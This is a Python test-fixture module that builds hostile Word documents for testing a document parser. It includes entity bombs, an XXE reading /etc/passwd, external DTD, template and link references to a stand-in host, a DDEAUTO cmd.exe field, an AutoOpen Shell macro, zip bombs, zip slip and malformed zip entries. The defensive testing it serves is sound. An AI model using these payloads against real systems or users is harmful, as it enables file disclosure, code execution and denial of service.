"""Word documents made to do harm: bombs, XML that declares things, depth without end, and links."""

import io
import struct
import zipfile

from tests.small_files import DECLARED, WORD, docx_parts, packed, relations, word_paragraph, word_table

OUT = "http://192.0.2.1/seen"
PLAN = word_paragraph("SECTION F") + word_table(
    [["Provision", "Who", "How often"], ["Speech", "SLT", "30 minutes weekly"]])
MEGABYTE = 1_000_000
UNFOLDING = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY a0 "ha">{UNFOLDING}]>'


def plain() -> bytes:
    return packed(docx_parts(PLAN))


def _docx(body: str = PLAN, **parts: str | bytes) -> bytes:
    return packed({**docx_parts(body), **parts})


def _document(declared: str, words: str) -> bytes:
    made = docx_parts(word_paragraph("SECTION F") + f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>")
    made["word/document.xml"] = str(made["word/document.xml"]).replace(DECLARED, DECLARED + declared)
    return packed(made)


def billion_laughs() -> bytes:
    return _document(LAUGHS, "&a9;")


def quadratic_entity() -> bytes:
    return _document(f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>', "&a;" * 10_000)


def external_entity() -> bytes:
    return _document('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;")


def external_dtd() -> bytes:
    return _document(f'<!DOCTYPE x SYSTEM "{OUT}">', "x")


def dtd_in_two_bytes() -> bytes:
    made = docx_parts(PLAN)
    words = str(made["word/document.xml"]).replace(DECLARED, '<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS)
    return packed({**made, "word/document.xml": words.encode("utf-16")})


def unheard_of_encoding() -> bytes:
    made = docx_parts(PLAN)
    words = '<?xml version="1.0" encoding="UTF-7"?>' + "+ADw-!DOCTYPE x+AD4-"
    return packed({**made, "word/document.xml": words})


def template_elsewhere() -> bytes:
    link = f'<Relationship Id="rId9" Type="t/attachedTemplate" Target="{OUT}" TargetMode="External"/>'
    settings = f'{DECLARED}<w:settings xmlns:w="{WORD}" xmlns:r="r"><w:attachedTemplate r:id="rId9"/></w:settings>'
    return _docx(**{"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations(more=link),
                    "word/_rels/document.xml.rels": relations(("styles", "styles.xml"), ("settings", "settings.xml"))})


def links_elsewhere() -> bytes:
    links = "".join(f'<Relationship Id="rId{9 + n}" Type="t/{kind}" Target="{target}" TargetMode="External"/>'
                    for n, (kind, target) in enumerate((("image", OUT), ("aFChunk", "file:///etc/passwd"),
                                                        ("frame", "\\\\192.0.2.1\\x"), ("oleObject", OUT))))
    body = PLAN + '<w:altChunk xmlns:r="r" r:id="rId10"/>'
    return _docx(body, **{"word/_rels/document.xml.rels": relations(("styles", "styles.xml"), more=links)})


def fields_that_run() -> bytes:
    fields = "".join(f'<w:p><w:fldSimple w:instr="{words}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' for words in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;", f"INCLUDETEXT {OUT}",
        f"INCLUDEPICTURE {OUT}"))
    return _docx(PLAN + fields)


def macros_and_objects() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled"
    made = docx_parts(PLAN, **{"word/vbaProject.bin": "Sub AutoOpen()\nShell \"calc\"\nEnd Sub",
                               "word/embeddings/oleObject1.bin": "\xd0\xcf\x11\xe0"})
    types = str(made["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main", kind + ".main")
    return packed({**made, "[Content_Types].xml": types})


def zip_bomb() -> bytes:
    made = docx_parts(PLAN)
    return packed({**made, "word/media/a.png": b"\0" * (150 * MEGABYTE)})


def many_parts() -> bytes:
    return _docx(**{f"word/media/{number}.png": b"" for number in range(5001)})


def more_than_it_says() -> bytes:
    """A part that says that it unpacks to a few bytes, and unpacks to 80,000,000."""
    body = str(docx_parts(PLAN)["word/document.xml"])
    made = bytearray(packed({**docx_parts(PLAN), "word/document.xml": body + " " * (80 * MEGABYTE)}))
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        part = package.getinfo("word/document.xml")
    said, meant = struct.pack("<I", part.file_size), struct.pack("<I", len(body))
    return bytes(made.replace(said, meant))


def overlapping_parts() -> bytes:
    """A hundred names for the same packed bytes."""
    made = bytearray(packed({**docx_parts(PLAN), "a000": b"\0" * (20 * MEGABYTE)}))
    end = made.rindex(b"PK\x05\x06")
    start = made.rindex(b"PK\x01\x02", 0, end)
    entry = bytes(made[start:end])
    more = b"".join(entry.replace(b"a000", b"a%03d" % number) for number in range(1, 100))
    count, size = struct.unpack("<HI", made[end + 10:end + 16])
    counts = struct.pack("<HHI", count + 99, count + 99, size + len(more))
    tail = bytes(made[end:end + 8]) + counts + bytes(made[end + 16:])
    return bytes(made[:end]) + more + tail


def zip_slip() -> bytes:
    return _docx(**{"../../../outside.txt": "x"})


def same_part_twice() -> bytes:
    made = io.BytesIO(_docx())
    with zipfile.ZipFile(made, "a") as package:
        info = zipfile.ZipInfo("word/document.xml")
        package.filelist.append(package.getinfo("word/document.xml"))
        package.NameToInfo.pop("word/document.xml")
        package.writestr(info, "<x/>")
    return made.getvalue()


def locked() -> bytes:
    made = bytearray(plain())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.index(sign) + place] |= 1
    return bytes(made)


def _within(levels: int, before: str, inside: str, after: str) -> bytes:
    return _docx(PLAN + before * levels + inside + after * levels)


def deep_xml() -> bytes:
    return _within(100_000, "<w:x>", "", "</w:x>")


def tables_in_tables() -> bytes:
    return _within(60, "<w:tbl><w:tr><w:tc>", word_paragraph("x"), "</w:tc></w:tr></w:tbl>")


def boxes_in_boxes() -> bytes:
    return _within(35, "<w:p><w:r><w:pict><w:txbxContent>", word_paragraph("x"),
                   "</w:txbxContent></w:pict></w:r></w:p>")


def controls_in_cells() -> bytes:
    return _within(40, "<w:tbl><w:tr><w:sdt><w:sdtContent><w:tc>", word_paragraph("x"),
                   "</w:tc></w:sdtContent></w:sdt></w:tr></w:tbl>")


def styles_in_a_ring() -> bytes:
    styles = "".join(f'<w:style w:type="paragraph" w:styleId="{one}"><w:name w:val="{one}"/>'
                     f'<w:basedOn w:val="{other}"/></w:style>' for one, other in ("ab", "ba"))
    body = '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>SECTION F</w:t></w:r></w:p>' + PLAN
    return _docx(body, **{"word/styles.xml": f'{DECLARED}<w:styles xmlns:w="{WORD}">{styles}</w:styles>'})


def cell_that_spans_a_billion() -> bytes:
    span = '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>' + word_paragraph("30 minutes weekly") + "</w:tc>"
    return _docx(word_paragraph("SECTION F") + f"<w:tbl><w:tr>{span}{span}</w:tr></w:tbl>")


def tags_without_end() -> bytes:
    return _docx(PLAN + "<w:p/>" * 1_600_000)
